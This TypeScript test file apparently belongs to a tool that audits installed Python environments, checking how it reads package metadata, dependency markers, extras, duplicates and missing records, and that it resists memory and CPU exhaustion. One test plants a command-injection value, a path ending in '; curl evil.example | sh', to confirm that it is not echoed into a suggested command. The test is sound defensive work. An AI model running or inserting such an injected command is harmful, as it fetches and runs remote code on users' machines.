import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { cpuTime } from '../base/text/testing/cpu-time.ts';
import { readEnvironment } from './environment.ts';
import { format } from './folders/environment.ts';
import { CONFIG, installed, metadata, named, pins, problems, read, SITE } from './testing/installed-files.ts';
import { memoryFolder } from './testing/memory-folder.ts';

const REQUESTED = { REQUESTED: '' };

describe('an installed environment', () => {
  it('is a folder with a pyvenv.cfg, with conda-meta, or with what installers leave; a checkout is none', () => {
    for (const entries of [
      ['pyvenv.cfg'],
      ['conda-meta'],
      ['a-1.dist-info'],
      ['a.egg-link'],
      ['a-1.egg-info'],
      ['a-1-py3.8.egg'],
    ])
      assert.ok(format.matches(new Set(entries)), entries.join());
    for (const entries of [['lib', 'bin'], ['a.egg-info', 'setup.py'], ['a.egg-info', 'pyproject.toml'], []])
      assert.ok(!format.matches(new Set(entries)), entries.join());
  });

  it('lists what METADATA says, at the line of its version, with license and Python', () => {
    const reading = read(installed('Demo_Lib', '1.0rc1', ['License: MIT', 'Requires-Python: >=3.8']));
    assert.deepEqual(named(reading, 'demo-lib'), {
      name: 'demo-lib',
      version: '1.0rc1',
      source: { kind: 'installed' },
      requiresPython: '>=3.8',
      license: 'MIT',
      extras: [],
      groups: [''],
      hashes: [],
      locations: [{ path: `env/${SITE}/Demo_Lib-1.0rc1.dist-info/METADATA`, line: 3, column: 1 }],
      reasons: [],
      requires: [],
    });
    assert.deepEqual(reading.problems, []);
  });

  it('draws arrows where a marker holds for its Python and platform, and where nobody can tell', () => {
    const wheel = { WHEEL: 'Wheel-Version: 1.0\nTag: cp312-cp312-manylinux_2_17_x86_64\n' };
    const reading = read(
      installed(
        'a',
        '1',
        [
          'Requires-Dist: yes; python_version >= "3.12"',
          'Requires-Dist: linux; sys_platform == "linux" and platform_machine == "x86_64"',
          'Requires-Dist: kernel; platform_release >= "6" and sys_platform == "linux"',
          'Requires-Dist: old; python_full_version < "3.12.4"',
          'Requires-Dist: windows; sys_platform == "win32"',
          'Requires-Dist: never; platform_release >= "6" and sys_platform == "win32"',
          'Requires-Dist: test; extra == "test"',
          'Requires-Dist: absent',
        ],
        wheel,
      ),
      ...['yes', 'linux', 'kernel', 'old', 'windows', 'never', 'test'].map((name) => installed(name, '1')),
    );
    assert.deepEqual(named(reading, 'a').requires, ['kernel', 'linux', 'yes']);
  });

  it('follows extras that somebody asks for, and names them', () => {
    const reading = read(
      installed('a', '1', ['Requires-Dist: b[Fast_Mode]'], REQUESTED),
      installed('b', '1', [
        'Provides-Extra: fast-mode',
        'Requires-Dist: c; extra == "fast-mode"',
        'Requires-Dist: d; extra == "slow"',
      ]),
      installed('c', '1'),
      installed('d', '1'),
    );
    assert.deepEqual(named(reading, 'b').extras, ['fast-mode']);
    assert.deepEqual(named(reading, 'b').requires, ['c']);
    assert.deepEqual(reading.roots.get(''), ['a', 'd', 'python'], 'nobody asked for d that is known');
  });

  it('has what was asked for by name as roots, and what nothing else brings in', () => {
    const reading = read(
      installed('a', '1', ['Requires-Dist: b'], REQUESTED),
      installed('b', '1', [], REQUESTED),
      installed('c', '1', ['Requires-Dist: d']),
      installed('d', '1', ['Requires-Dist: e']),
      installed('e', '1', ['Requires-Dist: d']),
      installed('f', '1', ['Requires-Dist: g']),
      installed('g', '1', ['Requires-Dist: f']),
    );
    assert.deepEqual(reading.roots.get(''), ['a', 'b', 'c', 'f', 'python']);
  });

  it('does not take REQUESTED from uv, which marks everything', () => {
    const uv = { ...REQUESTED, INSTALLER: 'uv' };
    const reading = read(installed('a', '1', ['Requires-Dist: b'], uv), installed('b', '1', [], uv));
    assert.deepEqual(reading.roots.get(''), ['a', 'python']);
  });

  it('takes what is installed from a folder of the repository for the project itself, by its path alone', () => {
    const from = (url: string, editable: boolean) => ({
      'direct_url.json': JSON.stringify({ url, dir_info: { editable } }),
    });
    const reading = read(
      installed('mine', '1', ['Requires-Dist: dep'], from('file:///repo/lib%20a', true)),
      installed('member', '1', [], from('file:///repo', false)),
      installed('dep', '1'),
      installed('other', '2', [], from('file:///repository', true)),
    );
    assert.deepEqual(pins(reading), ['dep 1', 'other 2']);
    assert.deepEqual(named(reading, 'other').source, { kind: 'path', url: '/repository' });
    assert.deepEqual(reading.roots.get(''), ['dep', 'other', 'python']);
  });

  it('lists both of two distributions of one project, and says so', () => {
    const reading = read(installed('a', '1'), installed('a', '2'), {
      [`${SITE}/A.egg-info`]: metadata('A', '3'),
      [`${SITE}/a-3.egg-info`]: metadata('a', '3'),
    });
    assert.deepEqual(pins(reading).sort(), ['a 1', 'a 2', 'a 3', 'a 3']);
    assert.deepEqual(problems(reading), [
      'environment-duplicate a-1.dist-info/METADATA:3',
      'environment-duplicate a-2.dist-info/METADATA:3',
    ]);
  });

  it('keeps what cannot be read: named by its folder, undetermined, a problem with its place', () => {
    const reading = read(
      { [`${SITE}/gone-1.0.dist-info/RECORD`]: 'a,sha256=x,1\n' },
      installed('empty', '1', [], { METADATA: '' }),
      installed('noversion', '1', [], { METADATA: 'Name: noversion\n' }),
      installed('bad', '1', [], { METADATA: metadata('bad', 'one') }),
      installed('a', '1', [], { METADATA: metadata('b', '1') }),
      installed('v', '1', [], { METADATA: metadata('v', '2') }),
      { [`${SITE}/-.dist-info/METADATA`]: 'Name: ?\n' },
      { [`${SITE}/~eftover-1.dist-info/METADATA`]: metadata('leftover', '1') },
    );
    const answers = reading.components
      .slice(0, -1)
      .map(({ name, version, reasons }) => `${name} ${version} ${reasons.join()}`);
    assert.deepEqual(answers.sort(), [
      'b 1 unknown-version',
      'bad one invalid-version',
      'empty null unknown-version',
      'gone null unknown-version',
      'noversion null unknown-version',
      'v 2 unknown-version',
    ]);
    assert.deepEqual(
      problems(reading).sort(),
      [
        'environment-invalid -.dist-info/METADATA:1',
        'environment-invalid a-1.dist-info/METADATA:3',
        'environment-invalid empty-1.dist-info/METADATA:1',
        'environment-invalid gone-1.0.dist-info/METADATA:1',
        'environment-invalid noversion-1.dist-info/METADATA:1',
        'environment-invalid v-1.dist-info/METADATA:3',
        'environment-invalid ~eftover-1.dist-info:1',
      ].sort(),
    );
  });

  it('reads the other fields where one requirement is malformed, and says where that stands', () => {
    const reading = read(installed('a', '1', ['Requires-Dist: b (>dev)', 'Requires-Dist: c']), installed('c', '1'));
    assert.deepEqual(named(reading, 'a').requires, ['c']);
    assert.deepEqual(problems(reading), ['metadata-invalid a-1.dist-info/METADATA:4']);
  });

  it('says once which distributions have no RECORD with hashes', () => {
    const reading = read(
      installed('a', '1', [], { RECORD: '' }),
      installed('b', '1', [], { RECORD: 'b.py,,\n' }),
      { [`${SITE}/c-1.dist-info/METADATA`]: metadata('c', '1') },
      installed('d', '1'),
    );
    assert.deepEqual(problems(reading), ['record-missing a-1.dist-info/METADATA:3']);
    assert.match(reading.problems[0]?.message ?? '', /`a`, `b`, `c`$/);
  });

  it('says that it sees its base interpreter’s distributions too', () => {
    const reading = read(installed('a', '1'), { 'pyvenv.cfg': CONFIG.replace('false', 'true') });
    assert.deepEqual(problems(reading), ['environment-undetermined env/pyvenv.cfg:4']);
    assert.equal(reading.problems[0]?.hint, 'audit that as well: `--environment /usr/bin`');
    const hostile = CONFIG.replace('false', 'true').replace('/usr/bin', '/x; curl evil.example | sh #');
    assert.equal(read(installed('a', '1'), { 'pyvenv.cfg': hostile }).problems[0]?.hint, undefined);
  });

  it('says which editable installation has lost its metadata', () => {
    const reading = read(installed('a', '1'), {
      [`${SITE}/__editable__.a-1.pth`]: '/src/a',
      [`${SITE}/__editable__.lost_one-2.0.pth`]: '/src/b',
    });
    assert.deepEqual(problems(reading), ['environment-invalid __editable__.lost_one-2.0.pth:1']);
  });

  it('passes over links that stand for a folder of its own, as `lib64`', () => {
    const folder = memoryFolder({
      ...installed('a', '1'),
      [`lib64/python3.12/site-packages/b-1.dist-info/METADATA`]: '',
    });
    const linked = {
      ...folder,
      list: (at: string) =>
        folder.list(at).map((entry) => (entry.name === 'lib64' ? { ...entry, link: 'lib' } : entry)),
    };
    assert.deepEqual(pins(readEnvironment(linked)), ['a 1']);
  });

  it('that is none is said', () => {
    assert.deepEqual(problems(readEnvironment(memoryFolder({ 'a.txt': '' }))), ['environment-undetermined env:1']);
  });

  it('cannot fill the memory with requirements', () => {
    const many = Array.from({ length: 12_000 }, (_, i) => `Requires-Dist: r${i}`);
    const text = metadata('x', '1', ...many);
    const files = Array.from({ length: 30 }, (_, i) =>
      installed(`x${i}`, '1', [], { METADATA: text.replace('Name: x', `Name: x${i}`) }),
    );
    const reading = read(...files);
    assert.deepEqual(
      reading.problems.map(({ code }) => code),
      ['entry-limit'],
    );
    assert.equal(pins(reading).length, 30);
  });

  it('cannot be made slow by what is written in it', () => {
    const markers = Array.from(
      { length: 300 },
      (_, i) => `Requires-Dist: b; platform_release >= "${i}" and extra == "e${i}"`,
    );
    const asking = Array.from({ length: 300 }, (_, i) => `Requires-Dist: a[e${i}]`);
    const time = cpuTime(() => read(installed('a', '1', markers), installed('b', '1', asking)));
    assert.ok(time < 5000, `${time} ms`);
  });
});
